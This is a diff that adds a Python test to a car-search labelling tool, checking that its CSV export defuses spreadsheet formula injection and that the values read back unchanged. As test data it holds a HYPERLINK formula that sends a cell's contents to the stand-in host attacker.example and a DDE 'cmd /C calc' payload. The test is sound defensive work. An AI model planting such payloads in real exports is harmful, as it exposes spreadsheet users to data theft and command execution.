@@ -198,3 +198,46 @@ def test_label_create_makes_a_task_of_the_unlabelled(tmp_path: Path) -> None:
     finally:
         db.dispose()
     assert "no task made" in cli("label", "create")
+
+
+def test_the_csv_export_neutralises_formulas(tmp_path: Path) -> None:
+    """Issue 22 item 13: a sidecar's class_name of =HYPERLINK(...) is the nearest class a
+    task suggests (the task is made directly here, as the drift job makes it from the
+    nearest labelled images); in the CSV export no text cell starts with =, +, -, @, a
+    tab or a carriage return, and reading the file back gives the values as they were."""
+    from carsearch.platform.db import migrate
+
+    settings = _settings(tmp_path)
+    migrate.upgrade(settings.database_url)
+    w = World(settings)
+    try:
+        evil = '=HYPERLINK("http://attacker.example/?q="&A1,"click me")'
+        ids = w.add(np.zeros((3, 32), np.float32), datetime.now(UTC), vector=False)
+        with w.db.session() as s:
+            for iid in ids:
+                s.get(Image, iid).class_name = evil  # type: ignore[union-attr]
+        suggested = {"make": "@SUM(1+1)*cmd|' /C calc'!A0", "model": "+1-2",
+                     "year": 2012, "body_type": "-Coupe"}
+        labels.create_tasks(w.db, None, "vehicles", [labels.NewTask(ids, evil, suggested)])
+        rows = export_rows(w.platform)
+        rows[0]["colour"] = "\tred"
+        rows[1]["model"] = "\r=1+1"
+        out = write_rows(rows, tmp_path / "todo.csv")
+    finally:
+        w.platform.close()
+    with out.open(newline="") as fh:
+        cells = [c for line in csv.reader(fh) for c in line]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    with out.open(newline="") as fh:
+        read = list(csv.DictReader(fh))
+    assert read[0]["nearest_class"] == "'" + evil
+    assert read[0]["suggested_make"] == "'" + suggested["make"]
+    assert read[0]["suggested_year"] == "2012"  # numbers are left alone
+    from carsearch.lifecycle.labelling import read_rows
+
+    back = [r for _n, r in read_rows(out)]
+    assert back[0]["nearest_class"] == evil and back[0]["colour"] == "\tred"
+    assert back[1]["model"] == "\r=1+1" and back[2]["suggested_body_type"] == "-Coupe"
+    # JSON lines are not a spreadsheet's: written as they are.
+    jl = write_rows(rows, tmp_path / "todo.jsonl")
+    assert json.loads(jl.read_text().splitlines()[0])["nearest_class"] == evil
